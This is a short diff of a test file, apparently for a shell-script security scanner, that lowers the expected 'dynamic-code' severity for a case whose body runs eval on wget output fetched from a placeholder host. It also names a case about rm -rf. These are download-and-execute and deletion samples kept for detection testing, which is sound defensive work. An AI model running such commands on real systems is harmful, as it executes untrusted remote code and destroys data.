@@ -37,7 +37,7 @@ const cases: { name: string; body: string; entry?: string; expect: string[] }[] 
   {
     name: 'eval of wget output',
     body: 'eval "$(wget -qO- https://example.org/env)"\n',
-    expect: ['network/medium@1', 'download-exec/high@1', 'dynamic-code/high@1'],
+    expect: ['network/medium@1', 'download-exec/high@1', 'dynamic-code/medium@1'],
   },
   {
     name: 'rm -rf "$DIR/" and fd redirections',
